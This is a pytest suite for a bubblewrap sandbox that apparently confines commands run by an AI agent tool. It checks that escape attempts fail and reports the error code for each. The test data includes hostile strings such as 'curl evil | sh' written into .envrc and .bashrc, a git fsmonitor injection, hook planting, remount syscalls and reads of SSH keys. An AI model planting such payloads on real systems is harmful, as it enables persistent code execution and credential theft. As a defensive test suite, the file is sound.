"""The bubblewrap sandbox, tested by really running commands in it.

Escape attempts run as a small Python program inside the sandbox that reports, per attempt, `OK`
or the errno name, so each test asserts why something failed (EROFS, EBUSY, ...), not just that it
did. The workspace lives under /var/tmp rather than /tmp: the sandbox's /tmp is private, so a
sibling directory under /tmp would be invisible inside and prove nothing about read-only mounts.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from agentls.workspace import sandbox
from agentls.workspace.port import ProcessResult, ProcessSpec, WorkspaceError
from agentls.workspace.sandbox import (
    SandboxPolicy,
    SandboxStatus,
    SandboxUnavailable,
    check_sandbox,
    run_sandboxed,
    sandbox_argv,
    sandboxed,
    wrap,
)

IS_ROOT = os.geteuid() == 0
STATUS = check_sandbox()
needs_bwrap = pytest.mark.skipif(
    not STATUS.available and not IS_ROOT,
    reason=f"the sandbox cannot run here ({STATUS.reason}) and we are not root to install bubblewrap: "
    "run `sudo apt-get install bubblewrap` (as root, e.g. on CI, these tests fail instead of skipping)",
)
PY = sys.executable
BASE_ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8"}

PROBE = """
import errno, os, socket, sys
def write(path, data="x"):
    with open(path, "w") as f:
        f.write(data)
def read(path):
    with open(path) as f:
        return f.read()
def empty(path):
    if os.listdir(path):
        raise OSError(errno.ENOTEMPTY, path)
def attempt(label, fn):
    try:
        fn()
        print(label, "OK", flush=True)
    except OSError as exc:
        print(label, errno.errorcode.get(exc.errno, exc.errno), flush=True)
"""


@dataclass(frozen=True)
class Box:
    area: Path
    ws: Path
    home: Path
    sibling: Path

    def policy(self, **kw: object) -> SandboxPolicy:
        return SandboxPolicy(self.ws, home=self.home, **kw)  # type: ignore[arg-type]

    def env(self, **extra: str) -> dict[str, str]:
        return {**BASE_ENV, "HOME": str(self.home), **extra}


@pytest.fixture
def box() -> Iterator[Box]:
    parent = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    area = Path(tempfile.mkdtemp(prefix="agentls-sandbox-test-", dir=parent)).resolve()
    try:
        for name in ("ws", "home", "sibling"):
            (area / name).mkdir()
        yield Box(area, area / "ws", area / "home", area / "sibling")
    finally:
        shutil.rmtree(area, ignore_errors=True)


async def run(
    box: Box, argv: list[str], policy: SandboxPolicy | None = None, limit_s: float = 30
) -> ProcessResult:
    spec = ProcessSpec(argv, box.ws, box.env(), limit_s)
    return await run_sandboxed(spec, policy or box.policy())


async def attempts(box: Box, ops: dict[str, str], policy: SandboxPolicy | None = None) -> dict[str, str]:
    """Run each expression inside the sandbox; map its label to `OK` or the errno name."""
    code = PROBE + "\n".join(f"attempt({label!r}, lambda: {expr})" for label, expr in ops.items())
    result = await run(box, [PY, "-I", "-c", code], policy)
    assert result.exit_code == 0, result.output
    seen = dict(line.split(" ", 1) for line in result.output.splitlines() if " " in line)
    assert set(seen) == set(ops), result.output
    return seen


def leftovers(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir())


# ---------------------------------------------------------------------------------------------
# The command line and the fail-closed paths (no bwrap needed)


def test_command_line_drops_capabilities_and_orders_mounts(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("")
    argv = sandbox_argv(
        ["echo", "hi"], SandboxPolicy(ws, home=tmp_path / "home"), env={"A": "1"}, bwrap="/x/bwrap"
    )
    assert argv[0] == "/x/bwrap"
    joined = " ".join(argv)
    for flag in ("--unshare-all", "--disable-userns", "--die-with-parent", "--new-session"):
        assert flag in argv
    assert "--cap-drop ALL" in joined
    assert "--share-net" not in argv
    assert argv[-3:] == ["--", "echo", "hi"]
    assert argv[argv.index("--clearenv") + 1 :][:3] == ["--setenv", "A", "1"]
    w = str(ws.resolve())
    first = [
        joined.index("--ro-bind / /"),
        joined.index("--tmpfs /tmp"),
        joined.index(f"--bind {w} {w}"),
        joined.index(f"--bind {w}/.git {w}/.git"),  # pinned, so .git cannot be renamed away
        joined.index(f"--ro-bind {w}/.git/hooks {w}/.git/hooks"),  # after its parents: it wins
    ]
    assert first == sorted(first)
    # Sealed because it did not exist; after the workspace bind, or the bind would cover it.
    assert joined.index(f"--tmpfs {w}/.vscode --remount-ro {w}/.vscode") > first[2]
    assert f"--ro-bind /dev/null {w}/.mcp.json" in joined
    networked = sandbox_argv(["true"], SandboxPolicy(ws, allow_network=True), bwrap="/x/bwrap")
    assert "--share-net" in networked


def test_invalid_policy_entries_and_environment_are_rejected(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="Invalid sandbox path"):
        SandboxPolicy(tmp_path, protected=("../escape",))
    with pytest.raises(ValueError, match="Invalid sandbox path"):
        SandboxPolicy(tmp_path, hidden=("~/",))
    with pytest.raises(ValueError, match="Invalid environment"):
        sandbox_argv(["true"], SandboxPolicy(tmp_path), env={"A=B": "x"}, bwrap="/x/bwrap")
    with pytest.raises(ValueError, match="cannot make / writable"):
        sandbox_argv(["true"], SandboxPolicy(tmp_path, writable=(Path("/"),)), bwrap="/x/bwrap")


def test_unavailable_sandbox_fails_closed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_status", SandboxStatus(False, "bubblewrap (bwrap) is not installed"))
    spec = ProcessSpec(["true"], tmp_path, {}, 5)
    for attempt in (
        lambda: wrap(spec, SandboxPolicy(tmp_path)),
        lambda: sandboxed(spec, SandboxPolicy(tmp_path)).__enter__(),
    ):
        with pytest.raises(SandboxUnavailable) as info:
            attempt()
        assert isinstance(info.value, WorkspaceError)
        message = str(info.value)
        assert "not run" in message and "bwrap" in message and "turn the sandbox off" in message


def test_probe_reports_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_find_bwrap", lambda: None)
    assert sandbox._probe() == SandboxStatus(False, "bubblewrap (bwrap) is not installed")
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "_find_bwrap", lambda: str(fake))
    status = sandbox._probe()
    assert not status.available and "uid map: Permission denied" in status.reason


def test_missing_workspace_is_reported(tmp_path: Path) -> None:
    with pytest.raises(SandboxUnavailable, match="not a directory"):
        sandbox_argv(["true"], SandboxPolicy(tmp_path / "nope"), bwrap="/x/bwrap")


def test_root_has_a_working_sandbox() -> None:
    """On CI (root, Debian) `make` installs bubblewrap; a missing sandbox is a failure there."""
    if not IS_ROOT:
        pytest.skip("only root can install bubblewrap, so only root requires it")
    assert STATUS.available, f"{STATUS.reason}: `make` should have run `apt-get install bubblewrap`"


# ---------------------------------------------------------------------------------------------
# Inside the sandbox


@needs_bwrap
async def test_writes_only_reach_the_workspace(box: Box) -> None:
    real_home = Path.home() / f"agentls-probe-{uuid.uuid4().hex}"
    (box.ws / "link-out").symlink_to(box.sibling)
    ops = {
        "workspace": f"write({str(box.ws / 'made')!r}, 'hello')",
        "etc": "write('/etc/agentls-probe')",
        "home": f"write({str(real_home)!r})",
        "sibling": f"write({str(box.sibling / 'x')!r})",
        "parent": f"write({str(box.area / 'x')!r})",
        "via-symlink": f"write({str(box.ws / 'link-out' / 'x')!r})",
        "usr": "os.mkdir('/usr/agentls-probe')",
    }
    try:
        seen = await attempts(box, ops)
    finally:
        with contextlib.suppress(FileNotFoundError):
            real_home.unlink()
    assert seen.pop("workspace") == "OK"
    assert (box.ws / "made").read_text() == "hello"
    assert seen == dict.fromkeys(seen, "EROFS")
    assert not Path("/etc/agentls-probe").exists() and not Path("/usr/agentls-probe").exists()
    assert leftovers(box.sibling) == [] and leftovers(box.area) == ["home", "sibling", "ws"]


@needs_bwrap
async def test_tmp_is_private(box: Box) -> None:
    name = f"agentls-probe-{uuid.uuid4().hex}"
    host_file = Path("/tmp") / f"{name}-host"
    host_file.write_text("host secret")
    try:
        seen = await attempts(
            box, {"write-tmp": f"write('/tmp/{name}')", "read-host-tmp": f"read({str(host_file)!r})"}
        )
    finally:
        host_file.unlink()
    assert seen == {"write-tmp": "OK", "read-host-tmp": "ENOENT"}
    assert not (Path("/tmp") / name).exists()


@needs_bwrap
async def test_network_is_unreachable_unless_allowed(box: Box) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        connect = f"socket.create_connection(('127.0.0.1', {port}), timeout=5).close()"
        seen = await attempts(box, {"loopback-listener": connect})
        assert seen == {"loopback-listener": "ECONNREFUSED"}
        # The control: the same connection works when the policy allows the network.
        allowed = await attempts(box, {"loopback-listener": connect}, box.policy(allow_network=True))
        assert allowed == {"loopback-listener": "OK"}
    # Only a private loopback, and no route anywhere (so no DNS server either).
    result = await run(box, ["/bin/sh", "-c", "cat /proc/net/dev; echo ROUTES; tail -n +2 /proc/net/route"])
    interfaces = [line.split(":")[0].strip() for line in result.output.split("ROUTES")[0].splitlines()[2:]]
    assert interfaces == ["lo"]
    assert result.output.split("ROUTES")[1].strip() == ""


@needs_bwrap
async def test_capabilities_are_dropped_so_root_cannot_remount(box: Box) -> None:
    """The regression test for the research's critical finding: without `--cap-drop ALL`, root in
    the sandbox could remount / read-write and write the host's /etc."""
    code = (
        PROBE
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def syscall_ok(rc):
    if rc != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
MS_REMOUNT, MS_BIND = 32, 4096
attempt("remount-root-rw", lambda: syscall_ok(libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)))
attempt("remount-etc-rw", lambda: syscall_ok(libc.mount(None, b"/etc", None, MS_REMOUNT | MS_BIND, None)))
attempt("new-user-namespace", lambda: syscall_ok(libc.unshare(0x10000000)))
attempt("write-etc", lambda: write("/etc/agentls-probe"))
for line in read("/proc/self/status").splitlines():
    if line.startswith(("CapEff", "CapBnd", "CapPrm")):
        print(line.replace(":", "").split()[0], line.split()[1])
"""
    )
    result = await run(box, [PY, "-I", "-c", code])
    seen = dict(line.split(" ", 1) for line in result.output.splitlines())
    assert seen["remount-root-rw"] == "EPERM" and seen["remount-etc-rw"] == "EPERM"
    assert seen["new-user-namespace"] != "OK"  # --disable-userns: no namespace to regain caps in
    assert seen["write-etc"] == "EROFS"
    assert seen["CapEff"] == seen["CapBnd"] == seen["CapPrm"] == "0000000000000000"
    assert not Path("/etc/agentls-probe").exists()


@needs_bwrap
async def test_git_hooks_cannot_be_created_or_walked_around(box: Box) -> None:
    git = box.ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    ops = {
        "hook": f"write({str(git / 'hooks' / 'pre-commit')!r})",
        "config": f"write({str(git / 'config')!r}, '[core]\\nfsmonitor = evil')",
        "rename-git": f"os.rename({str(git)!r}, {str(box.ws / 'git-old')!r})",
        "rename-hooks": f"os.rename({str(git / 'hooks')!r}, {str(git / 'old')!r})",
        "git-data": f"write({str(git / 'HEAD')!r}, 'ref: refs/heads/main')",  # git still works
    }
    seen = await attempts(box, ops)
    assert seen == {
        "hook": "EROFS",
        "config": "EROFS",
        "rename-git": "EBUSY",
        "rename-hooks": "EBUSY",
        "git-data": "OK",
    }
    assert leftovers(git / "hooks") == [] and (git / "config").read_text() == "[core]\n"


@needs_bwrap
async def test_missing_hooks_directory_is_sealed_and_removed_afterwards(box: Box) -> None:
    git = box.ws / ".git"
    git.mkdir()
    hooks = git / "hooks"
    seen = await attempts(
        box,
        {
            "mkdir": f"os.makedirs({str(hooks / 'x')!r})",
            "hook": f"write({str(hooks / 'pre-commit')!r})",
            "rename-git": f"os.rename({str(git)!r}, {str(box.ws / 'g')!r})",
        },
    )
    assert seen == {"mkdir": "EROFS", "hook": "EROFS", "rename-git": "EBUSY"}
    assert leftovers(git) == []  # the placeholder mount point is gone again


@needs_bwrap
async def test_missing_git_directory_cannot_be_created(box: Box) -> None:
    """No `.git` at all: a command must not plant a fresh repository (with hooks) either."""
    seen = await attempts(box, {"mkdir": f"os.makedirs({str(box.ws / '.git' / 'hooks')!r})"})
    assert seen == {"mkdir": "EROFS"}
    assert leftovers(box.ws) == []


@needs_bwrap
async def test_missing_editor_and_mcp_config_cannot_be_created(box: Box) -> None:
    ws = box.ws
    ops = {
        "vscode": f"write({str(ws / '.vscode' / 'settings.json')!r}, '{{}}')",
        "vscode-dir": f"os.makedirs({str(ws / '.vscode' / 'sub')!r})",
        "mcp": f"write({str(ws / '.mcp.json')!r}, '{{}}')",
        "envrc": f"write({str(ws / '.envrc')!r}, 'curl evil | sh')",
        "claude": f"write({str(ws / '.claude' / 'settings.json')!r}, '{{}}')",
        "rename-vscode": f"os.rename({str(ws / '.vscode')!r}, {str(ws / 'v')!r})",
        "unlink-mcp": f"os.unlink({str(ws / '.mcp.json')!r})",
        "ordinary": f"write({str(ws / 'ok.txt')!r})",
    }
    seen = await attempts(box, ops)
    assert seen == {
        "vscode": "EROFS",
        "vscode-dir": "EROFS",
        "mcp": "EACCES",  # /dev/null on a nodev mount: cannot even be opened
        "envrc": "EACCES",
        "claude": "EROFS",
        "rename-vscode": "EBUSY",
        "unlink-mcp": "EBUSY",
        "ordinary": "OK",
    }
    assert leftovers(ws) == ["ok.txt"]  # no placeholder survives the run


@needs_bwrap
async def test_existing_protected_files_stay_read_only(box: Box) -> None:
    (box.ws / ".vscode").mkdir()
    (box.ws / ".vscode" / "settings.json").write_text("{}")
    (box.ws / ".mcp.json").write_text("{}")
    seen = await attempts(
        box,
        {
            "settings": f"write({str(box.ws / '.vscode' / 'settings.json')!r}, 'evil')",
            "tasks": f"write({str(box.ws / '.vscode' / 'tasks.json')!r}, 'evil')",
            "mcp": f"write({str(box.ws / '.mcp.json')!r}, 'evil')",
            "read-mcp": f"read({str(box.ws / '.mcp.json')!r})",
        },
    )
    assert seen == {"settings": "EROFS", "tasks": "EROFS", "mcp": "EROFS", "read-mcp": "OK"}
    assert (box.ws / ".mcp.json").read_text() == "{}"
    assert leftovers(box.ws / ".vscode") == ["settings.json"]


@needs_bwrap
async def test_secrets_in_home_are_hidden(box: Box) -> None:
    (box.home / ".ssh").mkdir()
    (box.home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    (box.home / ".netrc").write_text("machine x password y")
    (box.home / "notes.txt").write_text("fine")
    seen = await attempts(
        box,
        {
            "key": f"read({str(box.home / '.ssh' / 'id_rsa')!r})",
            "list-ssh": f"empty({str(box.home / '.ssh')!r})",
            "netrc": f"read({str(box.home / '.netrc')!r})",
            "notes": f"read({str(box.home / 'notes.txt')!r})",
        },
    )
    assert seen == {"key": "ENOENT", "list-ssh": "OK", "netrc": "EACCES", "notes": "OK"}
    assert (box.home / ".ssh" / "id_rsa").read_text() == "PRIVATE KEY"


@needs_bwrap
async def test_protected_home_files_when_home_is_writable(box: Box) -> None:
    (box.home / ".bashrc").write_text("# mine\n")
    seen = await attempts(
        box,
        {
            "bashrc": f"write({str(box.home / '.bashrc')!r}, 'curl evil | sh')",
            "zshrc": f"write({str(box.home / '.zshrc')!r}, 'curl evil | sh')",
            "authorized_keys": f"write({str(box.home / '.ssh' / 'authorized_keys')!r})",
            "ordinary": f"write({str(box.home / 'notes.txt')!r})",
        },
        box.policy(writable=(box.home,)),
    )
    assert seen == {"bashrc": "EROFS", "zshrc": "EACCES", "authorized_keys": "EROFS", "ordinary": "OK"}
    assert (box.home / ".bashrc").read_text() == "# mine\n"
    assert leftovers(box.home) == [".bashrc", "notes.txt"]


@needs_bwrap
async def test_extra_writable_directories_get_the_same_protections(box: Box) -> None:
    seen = await attempts(
        box,
        {
            "file": f"write({str(box.sibling / 'out.txt')!r})",
            "hook": f"os.makedirs({str(box.sibling / '.git' / 'hooks')!r})",
        },
        box.policy(writable=(box.sibling,)),
    )
    assert seen == {"file": "OK", "hook": "EROFS"}
    assert leftovers(box.sibling) == ["out.txt"]


@needs_bwrap
async def test_protected_symlinks_fail_closed_or_are_followed(box: Box) -> None:
    (box.ws / "real").mkdir()
    (box.ws / ".vscode").symlink_to(box.ws / "real")
    spec = ProcessSpec(["true"], box.ws, box.env(), 10)
    with pytest.raises(SandboxUnavailable, match=r"\.vscode.*symbolic link"):
        wrap(spec, box.policy())
    (box.ws / ".vscode").unlink()
    # A link in read-only home pointing into the workspace: its target is what gets protected.
    (box.ws / "dotfiles").mkdir()
    (box.ws / "dotfiles" / "bashrc").write_text("# mine\n")
    (box.home / ".bashrc").symlink_to(box.ws / "dotfiles" / "bashrc")
    seen = await attempts(box, {"bashrc": f"write({str(box.home / '.bashrc')!r}, 'evil')"})
    assert seen == {"bashrc": "EROFS"}
    assert (box.ws / "dotfiles" / "bashrc").read_text() == "# mine\n"


@needs_bwrap
async def test_run_sockets_are_hidden(box: Box) -> None:
    """D-Bus, Docker and agent sockets live under /run; a read-only mount does not stop connect()."""
    if not os.access("/run", os.W_OK):
        pytest.skip("needs a writable /run to place a test socket there")
    directory = Path(tempfile.mkdtemp(prefix="agentls-sandbox-test-", dir="/run"))
    path = directory / "s"
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(path))
            server.listen()
            connect = f"socket.socket(socket.AF_UNIX).connect({str(path)!r})"
            assert await attempts(box, {"run-socket": connect}) == {"run-socket": "ENOENT"}
    finally:
        shutil.rmtree(directory, ignore_errors=True)


@needs_bwrap
async def test_environment_is_exactly_the_given_one(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTLS_TEST_SECRET", "leak")
    env = box.env(ODD="two words\nand a newline", EMPTY="")
    spec = ProcessSpec(
        [PY, "-I", "-c", "import json, os; print(json.dumps(dict(os.environ)))"], box.ws, env, 30
    )
    result = await run_sandboxed(spec, box.policy())
    assert json.loads(result.output) == {**env, "PWD": str(box.ws)}  # bwrap always sets PWD


@needs_bwrap
async def test_a_projects_own_tests_run_inside(box: Box) -> None:
    (box.ws / "test_sample.py").write_text(
        "import os, tempfile, unittest\n"
        "class T(unittest.TestCase):\n"
        "    def test_files(self):\n"
        "        with open('result.txt', 'w') as f:\n"
        "            f.write('done')\n"
        "        with tempfile.NamedTemporaryFile('w', delete=False) as t:\n"
        "            t.write('scratch')\n"
        "        self.assertTrue(os.path.exists(t.name))\n"
    )
    result = await run(box, [PY, "-m", "unittest", "-v"])
    assert result.exit_code == 0, result.output
    assert "Ran 1 test" in result.output and "OK" in result.output
    assert (box.ws / "result.txt").read_text() == "done"


@needs_bwrap
async def test_git_still_works_inside(box: Box) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    await asyncio.to_thread(subprocess.run, ["git", "init", "-q", str(box.ws)], check=True)
    env = box.env(
        GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@x", GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@x"
    )
    script = "echo hi > f && git add f && git commit -qm first && git log --oneline && git status --short"
    result = await run_sandboxed(ProcessSpec(["/bin/sh", "-c", script], box.ws, env, 30), box.policy())
    assert result.exit_code == 0, result.output
    assert "first" in result.output


def _marked(marker: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if marker.encode() in (entry / "cmdline").read_bytes().split(b"\0"):
                    pids.append(int(entry.name))
    return pids


async def _wait_for(condition: Callable[[], object], seconds: float = 10) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "timed out waiting"
        await asyncio.sleep(0.05)


@needs_bwrap
async def test_timeout_kills_everything_in_the_sandbox(box: Box) -> None:
    marker = f"1000.{uuid.uuid4().int % 10**9}"
    spec = ProcessSpec(
        ["/bin/sh", "-c", f"sleep {marker} & setsid sleep {marker} & sleep {marker}"], box.ws, box.env(), 1.5
    )
    result = await run_sandboxed(spec, box.policy())
    assert result.timed_out
    await _wait_for(lambda: not _marked(marker))


@needs_bwrap
async def test_sandbox_dies_with_its_parent(box: Box) -> None:
    """Kill only the process that started bwrap: `--die-with-parent` takes the sandbox down."""
    marker = f"1000.{uuid.uuid4().int % 10**9}"
    spec = ProcessSpec(["/bin/sh", "-c", f"sleep {marker} & sleep {marker} & wait"], box.ws, box.env(), 60)
    with sandboxed(spec, box.policy()) as wrapped:
        parent = await asyncio.create_subprocess_exec(
            *[PY, "-I", "-c", "import subprocess, sys; subprocess.run(sys.argv[1:])", *wrapped.argv],
            env={},
            start_new_session=True,
        )
        try:
            await _wait_for(lambda: len(_marked(marker)) == 2)
            parent.send_signal(signal.SIGKILL)
            await parent.wait()
            await _wait_for(lambda: not _marked(marker))
        finally:
            for pid in _marked(marker):
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            with contextlib.suppress(ProcessLookupError):
                parent.kill()


@needs_bwrap
async def test_placeholders_survive_while_another_sandbox_uses_them(box: Box) -> None:
    vscode = box.ws / ".vscode"
    slow = run(box, ["/bin/sh", "-c", "sleep 2; mkdir .vscode/late && echo ESCAPED; echo end"])
    task = asyncio.create_task(slow)
    await _wait_for(vscode.exists)  # the first sandbox's placeholder is on the host now
    assert (await run(box, ["true"])).exit_code == 0
    assert vscode.exists(), "a finishing sandbox removed the placeholder another one relies on"
    assert sandbox._mounted_elsewhere([vscode]) == {vscode}
    result = await task
    assert "ESCAPED" not in result.output and "end" in result.output
    assert not vscode.exists()


@needs_bwrap
async def test_placeholders_mounted_by_another_process_are_kept(box: Box) -> None:
    """A sandbox this process does not track (as if started by another agentls) still counts:
    removing its placeholder from the host would silently unmount it in that sandbox."""
    vscode = box.ws / ".vscode"
    first = asyncio.create_task(run(box, ["sleep", "1"]))
    await _wait_for(vscode.exists)
    marker = f"3.{uuid.uuid4().int % 10**9}"
    spec = ProcessSpec(
        ["/bin/sh", "-c", f"sleep {marker}; mkdir .vscode/late && echo ESCAPED; echo end"],
        box.ws,
        box.env(),
        30,
    )
    other = await asyncio.create_subprocess_exec(
        *wrap(spec, box.policy()).argv,
        env={},
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    await _wait_for(lambda: _marked(marker))
    assert (await first).exit_code == 0
    assert vscode.exists(), "the placeholder was removed while another sandbox had it mounted"
    output, _ = await other.communicate()
    assert b"ESCAPED" not in output and b"end" in output
    await run(box, ["true"])  # the next release retries the pending placeholder
    assert not vscode.exists()


@needs_bwrap
async def test_git_file_of_a_worktree_is_pinned(box: Box) -> None:
    """`.git` can be a file (`gitdir: ...`); replacing it would point git at a planted directory."""
    (box.ws / ".git").write_text("gitdir: /elsewhere/.git/worktrees/ws\n")
    seen = await attempts(
        box,
        {
            "rewrite": f"write({str(box.ws / '.git')!r}, 'gitdir: evil')",
            "unlink": f"os.unlink({str(box.ws / '.git')!r})",
        },
    )
    assert seen == {"rewrite": "EROFS", "unlink": "EBUSY"}
    assert (box.ws / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"


def test_an_executable_under_host_tmp_stays_runnable_inside(tmp_path: Path) -> None:
    """The sandbox's /tmp is private; a command (or agentls' own venv) living under the host's
    /tmp, as in a CI clone there, must still run."""
    import tempfile

    if not check_sandbox().available:
        pytest.skip(check_sandbox().reason)
    host_tmp = Path(tempfile.mkdtemp(prefix="agentls-exe-", dir="/tmp"))
    try:
        tool = host_tmp / "hello.sh"
        tool.write_text("#!/bin/sh\necho hello from tmp\n")
        tool.chmod(0o755)
        workspace = tmp_path / "ws"
        workspace.mkdir()
        argv = sandbox_argv([str(tool)], SandboxPolicy(workspace), env={"PATH": "/usr/bin:/bin"})
        done = subprocess.run(argv, env={}, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        assert done.stdout == "hello from tmp\n"
    finally:
        import shutil

        shutil.rmtree(host_tmp, ignore_errors=True)
